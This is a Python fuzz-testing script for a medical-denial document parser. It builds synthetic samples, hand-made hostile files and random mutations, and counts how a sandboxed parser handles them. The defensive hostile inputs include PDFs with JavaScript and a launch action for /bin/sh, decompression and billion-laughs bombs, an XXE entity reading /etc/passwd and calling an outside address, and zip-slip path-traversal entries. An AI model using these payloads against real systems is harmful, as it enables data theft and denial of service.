"""Hostile files: bombs and traps of every kind, then thousands of mutated files, each parsed in the limited process.

Usage: python benchmarks/reading/fuzz.py [COUNT] [SEED]        COUNT mutated files in all (default 2000), SEED a whole number (default 1)

Counts how each file ended: read, refused with a sentence, ended by the clock ("too-long": a hang), or the process died ("damaged" by
a death: a crash). A crash never reaches the caller; it is counted all the same, and its file is kept under --keep FOLDER.
"""

from __future__ import annotations

import base64
import io
import json
import random
import resource
import sys
import tempfile
import time
import zipfile
import zlib
from collections import Counter
from collections.abc import Callable, Iterator
from email.message import EmailMessage
from pathlib import Path

import docx
import pikepdf
from PIL import Image, ImageDraw
from reportlab.lib.pagesizes import LETTER
from reportlab.pdfgen.canvas import Canvas

from denialhelp.errors import DenialHelpError, UnreadableFile
from denialhelp.intake.child import Parser
from denialhelp.intake.limits import Limits, silent

LIMITS = Limits(seconds=20.0, memory_bytes=2 * 1024 * 1024 * 1024, ocr_jobs=1)
NOTICE = (
    "Synthetic sample. Notice of denial, March 3, 2026",
    "Member: Rosalind Achterberg    Member ID: W5550001234",
    "We could not approve lumbar fusion (22612). You have 180 days to appeal.",
)


def picture(kind: str, size: tuple[int, int] = (420, 90), **options: object) -> bytes:
    """A small picture of words."""
    image = Image.new("RGB", size, "white")
    ImageDraw.Draw(image).text((8, 20), "Denied on 03/03/2026", fill="black", font_size=26)
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def pdf_text() -> bytes:
    """A page of text with a form field."""
    out = io.BytesIO()
    canvas = Canvas(out, pagesize=LETTER, pageCompression=0)
    for number, line in enumerate(NOTICE):
        canvas.drawString(60, 700 - 20 * number, line)
    canvas.acroForm.textfield(name="member", value="W5550001234", x=60, y=500, width=200, height=20)
    canvas.showPage()
    canvas.drawString(60, 700, "Page two: criteria were not met.")
    canvas.save()
    return out.getvalue()


def pdf_packed() -> bytes:
    """The same with object streams and compressed streams."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf_text())) as document:
        document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    return out.getvalue()


def pdf_scan() -> bytes:
    """A page that is a small picture."""
    out = io.BytesIO()
    canvas = Canvas(out, pagesize=(420, 90))
    canvas.drawInlineImage(Image.open(io.BytesIO(picture("PNG"))), 0, 0, 420, 90)
    canvas.save()
    return out.getvalue()


def pdf_traps() -> bytes:
    """JavaScript, an embedded file, a launch action and an address to fetch."""
    with pikepdf.open(io.BytesIO(pdf_text())) as document:
        action = {"/S": pikepdf.Name.JavaScript, "/JS": "app.alert(1); this.exportDataObject({cName:'a.exe',nLaunch:2});"}
        document.Root.OpenAction = document.make_indirect(pikepdf.Dictionary(action))
        document.Root.AA = pikepdf.Dictionary({"/WC": {"/S": pikepdf.Name.Launch, "/F": "/bin/sh"}})
        document.Root.URI = pikepdf.Dictionary({"/Base": "http://192.0.2.1/"})
        document.attachments["../../evil.exe"] = b"MZ" + b"\0" * 64
        out = io.BytesIO()
        document.save(out)
    return out.getvalue()


def word() -> bytes:
    """A Word file with a list and a table."""
    document = docx.Document()
    for line in NOTICE:
        document.add_paragraph(line, style="List Number")
    document.add_table(rows=2, cols=2).cell(0, 0).text = "Code"
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def mail() -> bytes:
    """A message with a PDF, a picture and a message inside."""
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = "plan@example.com", "me@example.com", "Decision"
    message["Date"] = "Tue, 03 Mar 2026 10:00:00 +0000"
    message.set_content("\n".join(NOTICE))
    message.add_alternative("<html><body><p>" + "</p><p>".join(NOTICE) + "</p></body></html>", subtype="html")
    message.add_attachment(pdf_text(), maintype="application", subtype="pdf", filename="../../notice.pdf")
    message.add_attachment(b"Visit notes.", maintype="text", subtype="plain", filename="notes.txt")
    return bytes(message)


HTML = (
    "<!doctype html><html><head><style>p{}</style><script>alert(1)</script></head><body><h1>Notice</h1><p>"
    + "</p><p>".join(NOTICE)
    + "</p><table><tr><th>Code<td>22612</table><ul><li>a<li>b</ul></body></html>"
).encode()
FHIR = json.dumps(
    {
        "resourceType": "Bundle",
        "type": "collection",
        "entry": [
            {"resource": {"resourceType": "Patient", "id": "p", "name": [{"family": "Achterberg", "given": ["Rosalind"]}]}},
            {
                "resource": {
                    "resourceType": "Condition",
                    "subject": {"reference": "Patient/p"},
                    "code": {"coding": [{"system": "http://hl7.org/fhir/sid/icd-10-cm", "code": "M54.16"}], "text": "Radiculopathy"},
                    "onsetDateTime": "2026-01-02",
                }
            },
            {
                "resource": {
                    "resourceType": "DocumentReference",
                    "content": [{"attachment": {"contentType": "text/plain", "data": base64.b64encode(b"Back pain.").decode()}}],
                }
            },
        ],
    }
).encode()
CCDA = (
    b'<?xml version="1.0"?><ClinicalDocument xmlns="urn:hl7-org:v3" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
    b"<title>Summary</title><recordTarget><patientRole><patient><name><given>Rosalind</given><family>Achterberg</family></name>"
    b'<birthTime value="19830228"/></patient></patientRole></recordTarget><component><structuredBody><component><section>'
    b'<code code="11450-4"/><title>Problems</title><text><table><tr><td ID="p1">Radiculopathy</td></tr></table></text><entry>'
    b'<observation classCode="OBS"><value xsi:type="CD" code="M54.16" displayName="Radiculopathy"/></observation></entry></section>'
    b"</component></structuredBody></component></ClinicalDocument>"
)
ERA = (
    b"ISA*00*          *00*          *ZZ*PLAN           *ZZ*CLINIC         *260303*1000*^*00501*000000001*0*P*:~GS*HP*PLAN*CLINIC*20260303"
    b"*1000*1*X*005010X221A1~ST*835*0001~BPR*I*0*C*NON************20260303~TRN*1*12345*1999999999~"
    b"N1*PR*SAMPLE PLAN~N1*PE*CLINIC*XX*1234567893~"
    b"LX*1~CLP*CL1*4*500*0*500*12*999~CAS*CO*50*500~NM1*QC*1*ACHTERBERG*ROSALIND****MI*W555~SVC*HC:22612*500*0**1~DTM*472*20260101~"
    b"CAS*CO*50*500~SE*14*0001~GE*1*1~IEA*1*000000001~"
)

# name, bytes, share of the mutated files (pictures are read by OCR and cost most)
SEEDS: tuple[tuple[str, Callable[[], bytes], int], ...] = (
    ("text.pdf", pdf_text, 26),
    ("packed.pdf", pdf_packed, 14),
    ("traps.pdf", pdf_traps, 8),
    ("scan.pdf", pdf_scan, 1),
    ("notice.docx", word, 14),
    ("notice.eml", mail, 9),
    ("page.html", lambda: HTML, 8),
    ("bundle.json", lambda: FHIR, 8),
    ("record.xml", lambda: CCDA, 8),
    ("remit.835", lambda: ERA, 8),
    ("photo.jpg", lambda: picture("JPEG"), 2),
    ("photo.png", lambda: picture("PNG"), 2),
    ("photo.tif", lambda: picture("TIFF", compression="tiff_lzw"), 1),
    ("photo.webp", lambda: picture("WEBP"), 1),
)


# ---- traps made by hand ----


def _zip(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def _pdf(*objects: bytes, root: int = 1) -> bytes:
    """A PDF of raw objects numbered from 1."""
    body, places = b"%PDF-1.7\n", []
    for number, data in enumerate(objects, 1):
        places.append(len(body))
        body += b"%d 0 obj\n" % number + data + b"\nendobj\n"
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % p for p in places)
    return body + table + b"trailer\n<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, len(body))


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<<" + extra + b"/Length %d>>\nstream\n" % len(data) + data + b"\nendstream"


def _flate_bomb(megabytes: int) -> bytes:
    packer = zlib.compressobj(9)
    chunk = b"(a) Tj\n" * 150_000
    packed = b"".join(packer.compress(chunk) for _ in range(megabytes))
    return packed + packer.flush()


def _page(content: bytes, resources: bytes = b"<</Font<</F 5 0 R>>>>", box: bytes = b"[0 0 612 792]", *more: bytes) -> bytes:
    return _pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox " + box + b"/Contents 4 0 R/Resources" + resources + b">>",
        content,
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        *more,
    )


def pdf_bombs() -> Iterator[tuple[str, bytes]]:
    """PDF files that ask for too much."""
    yield "flate-bomb.pdf", _page(_stream(_flate_bomb(400), b"/Filter/FlateDecode"))
    double = zlib.compress(_flate_bomb(300), 9)
    yield "double-flate.pdf", _page(_stream(double, b"/Filter[/FlateDecode/FlateDecode]"))
    yield "huge-page.pdf", _page(_stream(b"BT /F 12 Tf 9 9 Td (word) Tj ET"), box=b"[0 0 1e9 1e9]")
    yield "no-page.pdf", _page(_stream(b"BT /F 12 Tf (word) Tj ET"), box=b"[0 0 0 0]")
    yield "negative.pdf", _page(_stream(b"BT /F 12 Tf (word) Tj ET"), box=b"[612 792 -612 -792]")
    yield "not-a-number.pdf", _page(_stream(b"BT /F nan Tf 1e999 -1e999 Td (word) Tj ET"))
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 600 700]/Resources<</XObject<</X 6 0 R>>>>"
    uses = b"<</Font<</F 5 0 R>>/XObject<</X 6 0 R>>>>"
    yield "form-in-itself.pdf", _page(_stream(b"/X Do"), uses, b"[0 0 612 792]", _stream(b"/X Do /X Do", form))
    chain = [
        _stream(
            b" ".join([b"/X Do"] * 10),
            b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>" % min(n + 1, 17),
        )
        for n in range(6, 17)
    ]
    leaf = _stream(b"0 0 1 1 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
    yield "form-tree.pdf", _page(_stream(b"/X Do"), uses, b"[0 0 612 792]", *chain, leaf)
    yield "page-tree-loop.pdf", _pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 99999999>>")
    deep = [b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (n + 1) for n in range(2, 3000)]
    yield "page-tree-deep.pdf", _pdf(b"<</Type/Catalog/Pages 2 0 R>>", *deep, b"<</Type/Page>>")
    yield "arrays.pdf", _page(_stream(b"[" * 200_000 + b"]" * 200_000))
    yield "saves.pdf", _page(_stream(b"q " * 1_000_000 + b"BT /F 12 Tf (word) Tj ET"))
    yield "many-glyphs.pdf", _page(_stream(b"BT /F 1 Tf 1 1 Td (" + b"a " * 900_000 + b") Tj ET"))
    image = b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode"
    yield "image-bomb.pdf", _page(_stream(b"600 0 0 700 0 0 cm /X Do"), uses, b"[0 0 612 792]", _stream(_flate_bomb(100), image))
    jbig = b"/Type/XObject/Subtype/Image/Width 2000000000/Height 2000000000/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/JBIG2Decode"
    yield "jbig.pdf", _page(_stream(b"600 0 0 700 0 0 cm /X Do"), uses, b"[0 0 612 792]", _stream(b"\0" * 64, jbig))
    font = b"<</Type/Font/Subtype/TrueType/BaseFont/A/FirstChar -9/LastChar 99999999/Widths[1]/FontDescriptor<</FontFile2 6 0 R>>>>"
    broken = b"\0\1\0\0\0\xff\xff\xff" + b"\xff" * 4000
    yield (
        "font.pdf",
        _pdf(
            *(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"),
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>",
            *(_stream(b"BT /F 12 Tf 9 9 Td (word) Tj ET"), font, _stream(broken, b"/Length1 99999999")),
        ),
    )
    cmap = b"begincmap 1 beginbfrange <0000> <FFFF> <0041> endbfrange " * 3000
    yield (
        "cmap.pdf",
        _pdf(
            *(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"),
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>",
            _stream(b"BT /F 12 Tf 9 9 Td (word) Tj ET"),
            *(b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 6 0 R>>", _stream(cmap)),
        ),
    )
    fields = b"".join(b"<</T(f%d)/FT/Tx/V(v)/Kids[1 0 R]>>" % n for n in range(4000))
    yield (
        "form-loop.pdf",
        _pdf(
            b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[" + fields + b" 1 0 R]>>>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page>>",
        ),
    )
    yield (
        "self-parent.pdf",
        _pdf(
            b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[4 0 R]>>>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Annots[4 0 R]>>",
            b"<</Subtype/Widget/T(a)/FT/Tx/V(v)/Parent 4 0 R/Kids[4 0 R]/Rect[0 0 9 9]/P 3 0 R>>",
        ),
    )


def other_bombs() -> Iterator[tuple[str, bytes]]:
    """Word, XML, JSON, mail, HTML, remittance and picture files that ask for too much."""
    sound = {"[Content_Types].xml": b"<Types/>"}
    yield "zip-bomb.docx", _zip({**sound, "word/document.xml": b"<w>" + b"a" * 400_000_000})
    words = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
    yield "deep.docx", _zip({**sound, "word/document.xml": words + b"<w:tbl><w:tr><w:tc>" * 40_000})
    closed = words + b"<w:tbl><w:tr><w:tc>" * 3000 + b"<w:p/>" + b"</w:tc></w:tr></w:tbl>" * 3000 + b"</w:body></w:document>"
    yield "deep-closed.docx", _zip({**sound, "word/document.xml": closed})
    grown = (b'<!ENTITY a%d "%s">' % (n, b"&a%s;" % (b"%d" % (n - 1) if n else b"") * 10) for n in range(10))
    laughs = b'<!DOCTYPE x [<!ENTITY a "ha">' + b"".join(grown)
    yield "laughs.docx", _zip({**sound, "word/document.xml": laughs + b"]>" + words + b"&a9;</w:body></w:document>"})
    yield "slip.docx", _zip({**sound, "word/document.xml": words + b"</w:body></w:document>", "../../../tmp/evil": b"x"})
    cda = b'<ClinicalDocument xmlns="urn:hl7-org:v3"><title>&a9;</title>'
    yield "laughs.xml", laughs + b"]>" + cda + b"</ClinicalDocument>"
    outside = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://192.0.2.1/x"> %p;]>'
    yield "outside.xml", b"<?xml version='1.0'?>" + outside + cda.replace(b"&a9;", b"&e;") + b"</ClinicalDocument>"
    long_name = b'<!DOCTYPE x [<!ENTITY a "' + b"a" * 100_000 + b'">]>'
    yield "quadratic.xml", long_name + cda.replace(b"&a9;", b"&a;" * 5000) + b"</ClinicalDocument>"
    yield "deep.xml", cda.replace(b"&a9;", b"") + b"<component>" * 200_000
    yield "deep-closed.xml", cda.replace(b"&a9;", b"") + b"<component>" * 5000 + b"</component>" * 5000 + b"</ClinicalDocument>"
    attributes = b" ".join(b"a%d='1'" % n for n in range(200_000))
    yield "attributes.xml", cda.replace(b"&a9;", b"") + b"<component " + attributes + b"/></ClinicalDocument>"
    yield "deep.json", b'{"resourceType":"Bundle","entry":' + b"[" * 500_000
    yield "deep-closed.json", b'{"resourceType":"Bundle","extension":' + b"[" * 900 + b"]" * 900 + b"}"
    nested = b'{"resource":{"resourceType":"Bundle","entry":[' * 300 + b"]}}" * 300
    yield "bundles.json", b'{"resourceType":"Bundle","entry":[' + nested + b"]}"
    yield "number.json", b'{"resourceType":"Observation","valueQuantity":{"value":' + b"9" * 100_000 + b"}}"
    yield "exponent.json", b'{"resourceType":"Observation","valueQuantity":{"value":1e999999999}}'
    many = b",".join([b'{"resource":{"resourceType":"Condition","code":{"text":"x"}}}'] * 60_000)
    yield "many.json", b'{"resourceType":"Bundle","entry":[' + many + b"]}"
    head = b"From: a@example.com\nTo: b@example.com\nDate: Tue, 03 Mar 2026 10:00:00 +0000\nMIME-Version: 1.0\n"
    yield "multipart.eml", head + b"".join(b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (n, n) for n in range(3000))
    yield "messages.eml", (head + b"Content-Type: message/rfc822\n\n") * 600 + head + b"\nhello"
    part = b"--b\nContent-Disposition: attachment; filename=a.txt\n\nx\n"
    yield "parts.eml", head + b"Content-Type: multipart/mixed; boundary=b\n\n" + part * 60_000
    yield "header.eml", head + b"Subject: " + b"=?utf-8?B?" + b"QUJD" * 300_000 + b"?=\n\nhello"
    yield "tables.html", b"<html><body>" + b"<table><tr><td>" * 30_000 + b"x"
    yield "spans.html", b"<html><table><tr>" + b"<td rowspan=999999 colspan=999999>x" * 300 + b"</table>"
    yield "lists.html", b"<html><body>" + b"<ul><li>" * 20_000 + b"x"
    yield "many.html", b"<html><body>" + b"<p>word</p>" * 400_000
    yield "segments.835", ERA.replace(b"SE*14", b"CAS*CO*50*1~" * 300_000 + b"SE*14")
    yield "elements.835", ERA.replace(b"SE*14", b"CAS*" + b"CO*50*1*" * 300_000 + b"~SE*14")
    yield "line.txt", b"word " * 3_000_000
    yield "lines.txt", b"Date: 01/02/2026\n" * 400_000
    yield "spaces.txt", b"Patient:" + b" " * 3_000_000 + b"x"
    out = io.BytesIO()
    Image.new("1", (60_000, 60_000)).save(out, "PNG")
    yield "pixels.png", out.getvalue()
    huge = bytearray(picture("JPEG"))
    at = huge.find(b"\xff\xc0")
    huge[at + 5 : at + 9] = b"\xff\xff\xff\xff"
    yield "claimed.jpg", bytes(huge)
    tiff = io.BytesIO()
    frame = Image.new("1", (20, 20), 1)
    frame.save(tiff, "TIFF", save_all=True, append_images=[frame] * 3500)
    yield "pages.tif", tiff.getvalue()
    yield "thin.png", picture("PNG", (30_000, 3))
    yield "tall.png", picture("PNG", (2, 30_000))
    yield "dot.png", picture("PNG", (1, 1))


# ---- mutation ----


_PIECES = (b"\0" * 9, b"\xff" * 9, b"<", b"&", b"{", b"(", b"]]>", b"obj", b"endstream", b"\r\n\r\n", b"%s%n")


def mutated(data: bytes, dice: random.Random, others: list[bytes]) -> bytes:
    """A changed copy: bits, bytes, cuts, repeats, splices, numbers made large."""
    out = bytearray(data)
    for _ in range(dice.choice((1, 1, 2, 4, 8, 30))):
        if not out:
            break
        at = dice.randrange(len(out))
        match dice.randrange(9):
            case 0:
                out[at] ^= 1 << dice.randrange(8)
            case 1:
                out[at] = dice.randrange(256)
            case 2:
                del out[at : at + dice.randrange(1, 64)]
            case 3:
                out = out[: max(at, 1)]
            case 4:
                piece = out[at : at + dice.randrange(1, 200)]
                out[at:at] = piece * dice.choice((1, 2, 50))
            case 5:
                other = dice.choice(others)
                start = dice.randrange(len(other))
                out[at:at] = other[start : start + dice.randrange(1, 400)]
            case 6:
                digits = [i for i in range(at, min(at + 200, len(out))) if 48 <= out[i] <= 57]
                if digits:
                    out[digits[0] : digits[0] + 1] = dice.choice((b"99999999", b"-1", b"0", b"4294967296", b"1e30"))
            case 7:
                out[at:at] = dice.choice(_PIECES)
            case _:
                size = dice.randrange(1, 16)
                two = dice.randrange(len(out))
                out[at : at + size], out[two : two + size] = out[two : two + size], out[at : at + size]
    return bytes(out)


class Tally:
    """Reads files one by one and counts how they end."""

    def __init__(self, folder: Path, keep: Path | None) -> None:
        """With the folder in which each file is written, and the one where deadly files are kept."""
        self.folder, self.keep = folder, keep
        self.parser = Parser()
        self.ends: Counter[str] = Counter()
        self.slowest: tuple[float, str] = (0.0, "")
        self.deadly: list[str] = []
        self.peak = 0

    def _note_memory(self) -> None:
        """The most memory that the parsing process has had, where the system tells."""
        status = Path(f"/proc/{self.parser.process_id}/status")
        if self.parser.process_id is not None and status.exists():
            held = next((line for line in status.read_text(encoding="ascii").splitlines() if line.startswith("VmHWM")), "VmHWM: 0 kB")
            self.peak = max(self.peak, int(held.split()[1]) // 1024)

    def see(self, name: str, data: bytes) -> str:
        """Read one file; how it ended."""
        path = self.folder / name
        path.write_bytes(data)
        begun = time.perf_counter()
        try:
            self.parser.read(path, name, LIMITS, silent)
            end = "read"
        except UnreadableFile as error:
            end = f"refused: {error.code}"
            if self.parser.process_id is None:
                end = "HANG" if error.code == "too-long" else f"CRASH {self.parser.last_exit}"
        except DenialHelpError as error:
            end = f"refused: {error.code}"
        taken = time.perf_counter() - begun
        self._note_memory()
        self.slowest = max(self.slowest, (taken, name))
        self.ends[end] += 1
        if end.startswith(("HANG", "CRASH")):
            self.deadly.append(f"{end} {name}")
            if self.keep is not None:
                (self.keep / f"{len(self.deadly)}-{name}").write_bytes(data)
        path.unlink()
        return end


def _bombs(tally: Tally) -> None:
    for name, data in (*pdf_bombs(), *other_bombs()):
        begun = time.perf_counter()
        end = tally.see(name, data)
        print(f"  {name:22} {len(data) / 1e6:7.2f} MB   {end:24} {time.perf_counter() - begun:5.1f} s")


def main() -> int:
    """Run the traps and the mutations; 1 where a file hung, the process died, or a temporary file was left."""
    arguments = [a for a in sys.argv[1:] if not a.startswith("--")]
    count = int(arguments[0]) if arguments else 2000
    dice = random.Random(int(arguments[1]) if len(arguments) > 1 else 1)  # noqa: S311 - to repeat a run, not to hide anything
    keep = next((Path(a.removeprefix("--keep=")) for a in sys.argv if a.startswith("--keep=")), None)
    if keep is not None:
        keep.mkdir(parents=True, exist_ok=True)
    with tempfile.TemporaryDirectory() as one, tempfile.TemporaryDirectory() as two:
        tempfile.tempdir = two
        tally = Tally(Path(one), keep)
        if "--no-bombs" not in sys.argv:
            _bombs(tally)
        seeds = [(name, make(), share) for name, make, share in SEEDS]
        names = [name for name, _, share in seeds for _ in range(share)]
        whole = {name: data for name, data, _ in seeds}
        for _ in range(count):
            name = dice.choice(names)
            tally.see(name, mutated(whole[name], dice, list(whole.values())))
        tally.parser.close()
        left = [p.name for p in Path(two).rglob("*")]
    used = resource.getrusage(resource.RUSAGE_CHILDREN)
    for end, number in tally.ends.most_common():
        print(f"{end:28} {number}")
    print(f"slowest {tally.slowest[0]:.1f} s ({tally.slowest[1]}); processor {used.ru_utime + used.ru_stime:.0f} s; peak {tally.peak} MB")
    print(f"temporary files left {len(left)}")
    for line in tally.deadly[:40]:
        print(" ", line)
    return 1 if tally.deadly or left else 0


if __name__ == "__main__":
    sys.exit(main())
